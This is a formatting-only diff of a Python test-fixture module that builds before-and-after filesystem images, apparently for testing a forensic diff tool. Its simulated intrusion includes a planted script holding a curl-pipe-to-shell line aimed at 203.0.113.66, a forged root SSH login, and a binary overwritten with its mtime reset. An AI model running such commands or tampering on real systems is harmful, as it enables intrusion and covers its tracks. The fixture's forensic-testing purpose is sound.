@@ -30,18 +30,34 @@ def mkfs(fstype: str, path: Path, size: int, offset: int = 0) -> None:
         if fstype == "ext4":
             _run(["mkfs.ext4", "-q", "-F", "-b", "4096", device])
         elif fstype == "xfs":
-            _run(["mkfs.xfs", "-q", "-f", device],
-                 {"TEST_DIR": "/tmp", "TEST_DEV": device, "QA_CHECK_FS": "xfs"})
+            _run(
+                ["mkfs.xfs", "-q", "-f", device],
+                {"TEST_DIR": "/tmp", "TEST_DEV": device, "QA_CHECK_FS": "xfs"},
+            )
         elif fstype == "ntfs":
-            _run(["mkntfs", "-q", "-F", "-Q", "-p", str(offset // 512), "-H", "255", "-S",
-                  "63", device])
+            _run(
+                [
+                    "mkntfs",
+                    "-q",
+                    "-F",
+                    "-Q",
+                    "-p",
+                    str(offset // 512),
+                    "-H",
+                    "255",
+                    "-S",
+                    "63",
+                    device,
+                ]
+            )
         else:
             raise ValueError(fstype)
 
 
 @contextlib.contextmanager
-def mounted_rw(fstype: str, file: Path, target: Path, offset: int = 0,
-               size: int | None = None) -> Iterator[Path]:
+def mounted_rw(
+    fstype: str, file: Path, target: Path, offset: int = 0, size: int | None = None
+) -> Iterator[Path]:
     """`file` (or a partition of it) mounted read-write; always unmounted, synced and
     detached."""
     target.mkdir(parents=True, exist_ok=True)
@@ -72,8 +88,10 @@ def populate(root: Path, bulk_bytes: int = 0, seed: int = 1) -> None:
     files = {
         "etc/passwd": b"root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/sh\n",
         "etc/hostname": b"web-1\n",
-        "var/log/auth.log": b"".join(b"Nov 22 0%d:00:00 web-1 sshd[%d]: session opened\n"
-                                     % (i % 10, 100 + i) for i in range(400)),
+        "var/log/auth.log": b"".join(
+            b"Nov 22 0%d:00:00 web-1 sshd[%d]: session opened\n" % (i % 10, 100 + i)
+            for i in range(400)
+        ),
         "home/alice/notes.txt": b"rotate the deploy key\n",
         "home/alice/todo.txt": b"buy milk\n",
         "srv/data/report.txt": b"Q3 numbers\n" * 100,
@@ -112,12 +130,24 @@ def change(root: Path, fstype: str) -> None:
     time.sleep(0.05)  # every change gets times after the "before" ones
     tool = root / "usr/bin/tool"
     mtime = tool.stat().st_mtime_ns
-    _run(["dd", f"of={tool}", "bs=4096", "seek=20", "count=2", "conv=notrunc", "status=none",
-          "if=/dev/urandom"])
+    _run(
+        [
+            "dd",
+            f"of={tool}",
+            "bs=4096",
+            "seek=20",
+            "count=2",
+            "conv=notrunc",
+            "status=none",
+            "if=/dev/urandom",
+        ]
+    )
     touch_d(tool, mtime)
     with open(root / "var/log/auth.log", "ab") as f:
-        f.write(b"Nov 23 03:14:15 web-1 sshd[6666]: Accepted password for root from "
-                b"203.0.113.66 port 31337\n")
+        f.write(
+            b"Nov 23 03:14:15 web-1 sshd[6666]: Accepted password for root from "
+            b"203.0.113.66 port 31337\n"
+        )
     (root / "tmp/.x").mkdir()
     (root / "tmp/.x/payload.sh").write_bytes(b"#!/bin/sh\ncurl -s http://203.0.113.66/p | sh\n")
     (root / "home/alice/todo.txt").unlink()
@@ -172,8 +202,12 @@ def make_pair(fstype: str, directory: Path, size: int, bulk_bytes: int = 0) -> P
     return Pair(before, after, fstype)
 
 
-GPT_PARTS = [(1, "ext4", 1 * MiB, 64 * MiB), (2, "xfs", 65 * MiB, 300 * MiB),
-             (3, "ntfs", 365 * MiB, 64 * MiB), (4, "none", 429 * MiB, 16 * MiB)]
+GPT_PARTS = [
+    (1, "ext4", 1 * MiB, 64 * MiB),
+    (2, "xfs", 65 * MiB, 300 * MiB),
+    (3, "ntfs", 365 * MiB, 64 * MiB),
+    (4, "none", 429 * MiB, 16 * MiB),
+]
 """A GPT disk of the three filesystems and a partition holding no filesystem."""
 
 
@@ -184,7 +218,8 @@ def make_gpt_pair(directory: Path, size: int = 448 * MiB) -> tuple[Path, Path]:
     with open(before, "wb") as f:
         f.truncate(size)
     table = "label: gpt\n" + "".join(
-        f"start={o // 512}, size={n // 512}, type=linux\n" for _, _, o, n in GPT_PARTS)
+        f"start={o // 512}, size={n // 512}, type=linux\n" for _, _, o, n in GPT_PARTS
+    )
     _run(["sfdisk", "--quiet", "--no-reread", "--no-tell-kernel", str(before)], input=table)
     for _, fstype, offset, psize in GPT_PARTS:
         if fstype == "none":
